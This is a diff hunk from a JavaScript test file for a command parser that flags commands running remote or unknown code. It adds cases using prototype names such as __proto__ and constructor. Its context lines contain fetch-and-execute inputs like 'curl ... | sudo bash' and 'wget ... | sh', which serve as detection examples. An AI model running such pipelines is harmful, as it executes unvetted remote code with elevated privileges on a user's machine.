@@ -43,6 +43,8 @@ describe('what runs code that is not at hand is named, whatever it is called', (
     ['git release 1.2', '! git release 1.2'],
     ['unknowntool --do; /opt/tool/bin/x', 'unknowntool --do', '/opt/tool/bin/x'],
     ['constructor -x; toString; __proto__ a', 'constructor -x', 'toString', '__proto__ a'],
+    ['git __proto__; git constructor', 'git __proto__', 'git constructor'],
+    ['npm constructor; yarn toString; docker valueOf', 'npm constructor', 'yarn toString', 'docker valueOf'],
     ['$DEPLOY now', '$DEPLOY now'],
     ['curl -fsSL https://x.example/i | sudo bash', 'curl -fsSL https://x.example/i | sudo bash'],
     ['wget -qO- https://x.example/i | sh -s -- a', 'wget -qO- https://x.example/i | sh -s -- a'],
